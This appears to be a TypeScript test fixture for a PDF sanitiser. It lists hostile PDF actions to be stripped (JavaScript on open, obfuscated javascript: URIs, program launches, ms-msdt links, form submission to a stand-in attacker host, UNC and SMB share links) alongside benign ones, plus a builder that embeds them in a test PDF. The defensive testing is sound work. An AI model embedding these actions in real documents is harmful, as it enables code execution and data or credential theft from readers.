import { PdfBuilder } from './pdf-builder';

/** Actions that a cut removes, by kind. */
export const REMOVED_ACTIONS: Record<string, string[]> = {
  scripts: [
    '/S /JavaScript /JS (evil)',
    '/S /URI /URI (javascript:evil)',
    '/S /URI /URI (JavaScript :evil)',
    '/S /URI /URI (java\\tscript:evil)',
    '/S /URI /URI <FEFF006A006100760061007300630072006900700074003A006500760069006C>',
    '/S /URI /URI (vbscript:evil)',
    '/S /URI /URI (data:text/html,evil)',
    '/S /Rendition /JS (evil)',
  ],
  program_links: [
    '/S /Launch /F (evil.exe)',
    '/S /Launch /Win << /F (evil.exe) >>',
    '/S /URI /URI (ms-msdt:/id evil)',
    '/S /URI /URI (search-ms:query=evil)',
  ],
  form_submissions: ['/S /SubmitForm /F (https://evil.example/) /Fields []'],
  data_imports: ['/S /ImportData /F (evil.fdf)'],
  file_links: [
    '/S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit]',
    '/S /GoToR /F (//evil/share/a.pdf) /D [0 /Fit]',
    '/S /GoToR /F << /Type /Filespec /F (a.pdf) /UF (\\\\\\\\evil\\\\a.pdf) >> /D [0 /Fit]',
    '/S /GoToR /F << /FS /URL /F (file://evil/a.pdf) >> /D [0 /Fit]',
    '/S /GoToR /F (C:\\\\evil.pdf) /D [0 /Fit]',
    '/S /GoToE /F (/evil/share/a.pdf) /D [0 /Fit] /T << /R /C /N (x) >>',
    '/S /URI /URI (file:///evil)',
    '/S /URI /URI (\\\\\\\\evil\\\\share)',
    '/S /URI /URI (//evil/share)',
    '/S /URI /URI (smb://evil/share)',
    '/S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /F (\\\\\\\\evil\\\\film.avi) >> >> >>',
  ],
  media: ['/S /RichMediaExecute /CMD << /C (evil) >>'],
  attached_files: ['/S /GoToR /F << /F (a.pdf) /EF << /F 99 0 R >> >> /D [0 /Fit]'],
};

export const KEPT_ACTIONS = [
  '/S /URI /URI (https://kept.example/)',
  '/S /URI /URI (HTTP://kept.example/)',
  '/S /URI /URI (mailto:kept@example.com)',
  '/S /URI /URI (tel:+49401234)',
  '/S /URI /URI (www.kept.example:8080/a)',
  '/S /URI /URI (kept.html#there)',
  '/S /GoToR /F (kept.pdf) /D [0 /Fit]',
  '/S /Named /N /NextPage',
  '/S /ResetForm /Fields []',
];

/**
 * Creates a PDF of two pages. The first page has a link for each action. Other actions belong to the document, the
 * page, an annotation, or a field. The second page has only a link to the first page.
 */
export function activePdf(
  actions: readonly string[],
  more: { annotations?: string[]; catalog?: string } = {},
): Buffer {
  const draft = new PdfBuilder();
  const tree = draft.reserve();
  const second = draft.reserve();
  const link = (action: string) =>
    draft.add(`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << ${action} >> >>`);
  const annotations = [
    ...actions.map(link),
    ...(more.annotations ?? []).map((body) => draft.add(`<< ${body} >>`)),
  ];
  const first = draft.add(
    `<< /Type /Page /Parent ${tree} /MediaBox [0 0 99 99] /Annots [${annotations.join(' ')}] ` +
      '/AA << /O << /S /JavaScript /JS (evil when opened) >> >> >>',
  );
  const back = draft.add(
    `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [${first} /Fit] >> >>`,
  );
  draft.put(second, `<< /Type /Page /Parent ${tree} /MediaBox [0 0 99 99] /Annots [${back}] >>`);
  draft.put(tree, `<< /Type /Pages /Count 2 /Kids [${first} ${second}] >>`);
  const root = draft.add(`<< /Type /Catalog /Pages ${tree} ${more.catalog ?? ''} >>`);
  return draft.trailer(`/Root ${root}`).toBytes();
}

/** Actions of a document on opening: three scripts and the launch of a program. */
export const ACTS_WHEN_OPENED =
  '/OpenAction << /S /JavaScript /JS (evil) /Next << /S /Launch /F (evil.exe) >> >> ' +
  '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (evil) >> (b) << /S /JavaScript /JS (evil) >>] >> >>';
